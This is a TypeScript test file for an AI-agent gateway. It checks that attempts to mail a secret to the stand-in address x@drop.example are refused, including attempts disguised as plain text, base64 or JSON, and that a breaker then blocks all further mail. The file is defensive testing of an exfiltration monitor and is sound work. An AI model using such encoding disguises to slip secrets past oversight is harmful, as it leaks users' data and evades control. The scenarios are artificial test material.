import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { CallRequested } from '../../schemas/generated/types.ts';
import { eventTypes } from '../../schemas/topics.ts';
import { dataOf, type Rig, until } from '../support/gateway/gateway-rig.ts';
import { type CallAnswer, connectLegacy } from '../support/gateway/mcp-clients.ts';
import { forms, inScene, mailsSeen, overHttp, readPageAndSecret, type Scene } from '../support/gateway/scenes.ts';

const to = 'x@drop.example';
const disguises: readonly ((secret: string) => string)[] = [
  (secret) => `please note ${secret} for later`,
  (secret) => Buffer.from(secret).toString('base64'),
  (secret) => JSON.stringify({ copy: [secret] }),
];

type Mail = (scene: Scene, body: string) => Promise<CallAnswer>;

const inSameSession: Mail = ({ client }, body) => client.call('send_mail', { to, body });

const inFreshTrace: Mail = ({ client }, body) => {
  const traceparent = `00-${randomBytes(16).toString('hex')}-${randomBytes(8).toString('hex')}-01`;
  return client.call('send_mail', { to, body }, { meta: { traceparent } });
};

const inFreshSession: Mail = async ({ rig }, body) => {
  const client = await connectLegacy(rig.url);
  try {
    await client.tools();
    return await client.call('send_mail', { to, body });
  } finally {
    await client.close();
  }
};

function reasonsOf(rig: Rig): readonly string[] {
  const requested = rig.records.filter(({ headers }) => headers['ce_type'] === eventTypes.callRequested);
  return requested
    .map((record) => dataOf(record) as unknown as CallRequested)
    .filter(({ target }) => target.name === 'send_mail')
    .map(({ verdict }) => verdict.reason);
}

const [[, stateful], [, modern]] = [forms[3], forms[4]] as const;
const cases = [
  ...forms.map(([name, form]) => [name, form, inSameSession] as const),
  ['over HTTP, each from a session of its own', overHttp, inFreshSession] as const,
  ['over HTTP before a server over HTTP, each from a session of its own', stateful, inFreshSession] as const,
  ['in the 2026-07-28 era, each with a trace of its own', modern, inFreshTrace] as const,
];

// Without its worker a gateway goes on by what it holds, for as long as this.
beforeAll(() => {
  vi.stubEnv('SHEARPIN_STALE_AFTER_MS', '3600000');
});
afterAll(() => {
  vi.unstubAllEnvs();
});

describe.each(cases)('an agent that tries values %s', (_name, form, mail) => {
  it('is told the same each time, and after three refusals can send nothing any more', async () => {
    await inScene(form, async (scene) => {
      await readPageAndSecret(scene);
      const { client, rig, world } = scene;
      // It would open the breaker of the session after the first.
      await rig.stopWorker();
      const refused: CallAnswer[] = [];
      for (const [index, disguise] of disguises.entries()) {
        const innocent = await mail(scene, `nothing of interest in letter ${String(index)}`);
        expect(innocent).toMatchObject({ isError: false });
        refused.push(await mail(scene, disguise(world.secret)));
      }
      refused.push(await mail(scene, 'nothing of interest at all'));
      expect(refused.map(({ isError }) => isError)).toEqual([true, true, true, true]);
      const told = refused.map((answer) => JSON.stringify(answer).replaceAll(/[0-9a-f]{32}/g, 'COMMAND'));
      expect(new Set(told).size).toBe(1);
      expect(told[0]).toContain('COMMAND');
      expect(mailsSeen(scene)).toBe(3);
      await until(() => reasonsOf(rig).length === 7);
      expect(reasonsOf(rig).filter((reason) => reason !== 'clear')).toEqual(['armed', 'armed', 'armed', 'probing']);
      expect(await client.call('get_secret', { entry: 'first' })).toMatchObject({ isError: false });
    });
  });
});
